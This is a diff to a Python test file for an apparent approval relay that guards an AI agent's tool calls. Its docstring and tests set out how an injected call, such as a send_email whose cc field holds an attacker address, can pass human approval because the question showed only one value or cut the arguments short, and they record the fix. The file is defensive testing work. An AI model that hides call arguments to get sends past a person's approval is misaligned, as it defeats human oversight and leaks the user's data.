@@ -1,15 +1,14 @@
 """Class: the person is asked about one value of a call and approves every other one unseen (session 10,
-attacker). The engine judges every value of a call, but where several are asked it keeps the first
+attacker; fixed). The engine judges every value of a call, but where several are asked it keeps the first
 verdict (`engine.DefaultEngine.decide`: `asked = asked or verdict`), and the question put to the person
-names that one value only (`_verdict`: "Allow send_email with to='…'?"); a destructive call's question
-shows its arguments cut at 160 characters (`_short`). An injected call leads with a plausible value (a
-colleague's other address) and carries the real destination in another argument, or after a long
-one: the person approves what they were shown, and the call goes out with what they were not.
+named that one value only (`_verdict`: "Allow send_email with to='…'?"); a destructive call's question
+showed its arguments cut at 160 characters (`_short`); a profile's `ask` showed none ("Allow mail/send_email?").
+An injected call leads with a plausible value (a colleague's other address) and carries the real
+destination in another argument, or after a long one: the person approved what they were shown, and the
+call went out with what they were not. Now every question ends with the whole call, uncut (`relay._question`).
 """
 
 from __future__ import annotations
-
-import pytest
 
 from tests.attacks.client import Attacker, Scripted, write_config
 
@@ -45,8 +44,6 @@ def _asked(tmp_path, intent: str, tool: str, arguments: dict, *run_args: str, ex
     return question, server.received("tools/call")
 
 
-@pytest.mark.xfail(strict=True, reason="s10 attacker: the question names only the first asked value; the "
-                                       "approval lets every other one through unseen")
 def test_an_approved_call_carries_no_destination_the_question_did_not_show(tmp_path):
     question, sent = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
                             {"to": "bob.smith@example.org", "cc": EVIL, "body": "the summary"})
@@ -55,8 +52,6 @@ def test_an_approved_call_carries_no_destination_the_question_did_not_show(tmp_p
     assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL} as well"
 
 
-@pytest.mark.xfail(strict=True, reason="s10 attacker: a destructive call's question cuts its arguments at "
-                                       "160 characters, hiding what follows")
 def test_a_destructive_question_shows_every_argument(tmp_path):
     query = "from:digest@news.example older_than:30d " + "label:promotions " * 12
     question, sent = _asked(tmp_path, "Delete my old newsletter messages", "delete_messages",
@@ -65,7 +60,6 @@ def test_a_destructive_question_shows_every_argument(tmp_path):
     assert EVIL in question or not sent, f"approved {question!r}, and the call went to {EVIL} as well"
 
 
-@pytest.mark.xfail(strict=True, reason="s10 attacker: a profile's `ask` question shows none of the call's arguments")
 def test_a_profile_question_shows_the_arguments(tmp_path):
     profile = '[profiles.mail]\nowner = "ops@example.test"\nask = ["mail/send_email"]\n'
     question, sent = _asked(tmp_path, "Email bob@example.com a summary of my meeting notes", "send_email",
